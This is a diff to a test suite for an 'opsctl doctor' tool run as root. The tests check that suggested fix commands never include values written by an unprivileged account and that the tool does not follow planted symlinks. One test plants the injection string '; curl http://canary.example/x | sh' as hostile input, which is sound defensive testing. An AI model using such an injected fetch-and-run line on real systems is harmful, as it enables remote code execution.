@@ -60,12 +60,12 @@ describe("opsctl doctor started by root", () => {
     expect(ended.stdout).not.toContain("line-of-a-file-of-roots");
     const about = of(ended, "weekly", "secrets").filter(({ reason }) => reason.includes("GATEWAY_ADMIN_KEY"));
     expect(about).toMatchObject([{ status: "fail" }]);
-    for (const { mend } of ended.json.findings as Finding[])
-      expect(mend ?? "").not.toMatch(/(chown|chmod)[^;&]*GATEWAY_ADMIN_KEY/);
+    for (const { fix } of ended.json.findings as Finding[])
+      expect(fix?.command ?? "").not.toContain("GATEWAY_ADMIN_KEY");
     await gateway.stop();
   });
 
-  test("prints no line that the account wrote as its own advice", async () => {
+  test("puts nothing that the account wrote into a command", async () => {
     const line = "; curl http://canary.example/x | sh";
     const victim = host.put("given", "of root\n");
     const messaging = { MESSAGING_API_URL: "http://127.0.0.1:9", MESSAGING_API_KEY: "messaging-key" };
@@ -80,32 +80,28 @@ describe("opsctl doctor started by root", () => {
       "socket-monitor": { ...none, OPSCTL_WEBHOOK_ENV_FILE: victim },
     });
     const ended = await doctor(["--json", "--env-dir", envDir]);
-    const mends = (ended.json.findings as Finding[]).flatMap(({ mend }) => mend ?? []);
-    const own = mends.filter((mend) => !mend.startsWith("The account opsctl says: "));
-    expect(own.filter((mend) => mend.includes("| sh"))).toEqual([]);
-    // Nor is anything of root's given to the account because its settings name it.
-    expect(own.filter((mend) => /(chown|chmod|install)[^"]*(\/given|not-there)/.test(mend))).toEqual([]);
+    const commands = (ended.json.findings as Finding[]).flatMap(({ fix }) => fix?.command ?? []);
+    expect(commands.length).toBeGreaterThan(0);
+    expect(commands.filter((command) => /canary|\| sh|given|not-there/.test(command))).toEqual([]);
+    const text = (await doctor(["--all", "--env-dir", envDir])).stdout;
+    // Values stand in reasons alone: no line that could be copied holds one.
+    expect(text.split("\n").filter((line) => /->|^ {8,}\S/.test(line) && line.includes("| sh"))).toEqual([]);
   });
 
-  test("looks at what is the collector's as root, and at nothing that another account put before it", async () => {
+  test("looks at the collector's settings as root, and at its file as the account, following no link", async () => {
     const metrics = 'opsctl_collector_up{source="canary"} 0\n';
     const owned = host.make("textfile", 0o755, ACCOUNT.uid);
     rmSync(`${owned}/custom_metrics.prom`, { force: true });
     symlinkSync(host.put("metrics-of-root", metrics, 0o644), `${owned}/custom_metrics.prom`);
-    const shared = host.make("shared", 0o1777);
-    host.put("shared/custom_metrics.prom", metrics, 0o644, ACCOUNT.uid);
-    for (const directory of [owned, shared]) {
-      const envDir = settings("collecting", { "collect-metrics": { TEXTFILE_DIR: directory } });
-      const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
-      expect(of(ended, "collect-metrics", "environment file")).toMatchObject([{ status: "pass" }]);
-      expect(ended.stdout).not.toContain("canary");
-      expect(of(ended, "collect-metrics", "metrics file").map(({ code }) => code)).toContain(
-        "FILE_UNTRUSTED",
-      );
-    }
+    const envDir = settings("collecting", { "collect-metrics": { TEXTFILE_DIR: owned } });
+    const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
+    expect(of(ended, "collect-metrics", "environment file")).toMatchObject([{ status: "pass" }]);
+    expect(ended.stdout).not.toContain("canary");
+    const codes = of(ended, "collect-metrics", "metrics file").map(({ code }) => code);
+    expect(codes).toContain("FILE_UNTRUSTED");
   });
 
-  test("has no line about the metrics that another account could lead elsewhere before it runs", async () => {
+  test("says what is wrong with the metrics' directory and file, and changes nothing by a command", async () => {
     const owned = host.make("their-metrics", 0o755, ACCOUNT.uid);
     host.put("their-metrics/custom_metrics.prom", "", 0o600, ACCOUNT.uid);
     for (const [directory, check] of [
@@ -116,9 +112,42 @@ describe("opsctl doctor started by root", () => {
       const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
       const [found] = of(ended, "collect-metrics", check);
       // Pasted, `chmod 0644` would follow a link to /etc/shadow.
-      expect([found!.status, /chmod|install|mv /.test(found!.mend!)]).toEqual(["fail", false]);
+      expect([found!.status, /chmod|install|mv /.test(found!.fix?.command ?? "")]).toEqual(["fail", false]);
     }
   });
+
+  const ACCESS: [string, string, "pass" | "fail"][] = [
+    ["by its owner's bits", "chown 64001:0 $D; chmod 0700 $D", "pass"],
+    ["by its group's bits", "chown 0:64001 $D; chmod 0730 $D", "pass"],
+    ["by others' bits", "chown 0:0 $D; chmod 0757 $D", "pass"],
+    ["to nobody else", "chown 0:0 $D; chmod 0755 $D", "fail"],
+    ["not to its group", "chown 0:64001 $D; chmod 0707 $D", "fail"],
+    ["by an access list alone", "chown 0:0 $D; chmod 0700 $D; setfacl -m u:64001:rwx $D", "pass"],
+    ["not to one whom an access list masks", "chown 64002:0 $D; setfacl -m u:64001:rwx,m::r $D", "fail"],
+  ];
+  for (const [what, open, status] of ACCESS)
+    (what.includes("list") ? requires("account", "setfacl").test : test)(
+      `finds a directory that is open ${what} ${status === "pass" ? "well" : "closed"}, as the kernel does`,
+      async () => {
+        const name = `access-${what.replaceAll(/\W/g, "-")}`;
+        const log = host.make(name);
+        const made = Bun.spawnSync(["sh", "-ec", open], { env: { ...process.env, D: log } });
+        expect(made.exitCode, made.stderr?.toString()).toBe(0);
+        const weekly = {
+          ...{
+            OPSCTL_LOG_DIR: log,
+            OPSCTL_SECRETS_DIR: host.path("none"),
+            APP_BASE_URL: "http://127.0.0.1:1",
+          },
+          ...{ DATABASE_URL: "postgres://u:p@127.0.0.1:1/a", TRIGGER_SECRET: "trigger-secret" },
+        };
+        const envDir = settings(`${name}-etc`, { weekly });
+        const ended = await doctor(["weekly", "--json", "--env-dir", envDir]);
+        const [found] = of(ended, "weekly", "log directory");
+        expect(found, JSON.stringify(found)).toMatchObject({ status });
+        if (status === "fail") expect(found!.code).toBe("DIRECTORY_CLOSED");
+      },
+    );
 
   test.each<[string, number, number, number]>([
     ["are not root's", 0o600, ACCOUNT.uid, 0],
@@ -134,7 +163,7 @@ describe("opsctl doctor started by root", () => {
     const [found] = of(ended, "collect-metrics", "environment file");
     expect(found).toMatchObject({ status: "fail", code: "SECRET_FILE_UNTRUSTED" });
     // Given to root, its lines would be root's.
-    expect(found!.mend).not.toMatch(/chown|chmod/);
+    expect(found!.fix?.command ?? "").not.toMatch(/chown|chmod/);
     expect(() => readFileSync(out, "utf8")).toThrow("ENOENT");
   });
 
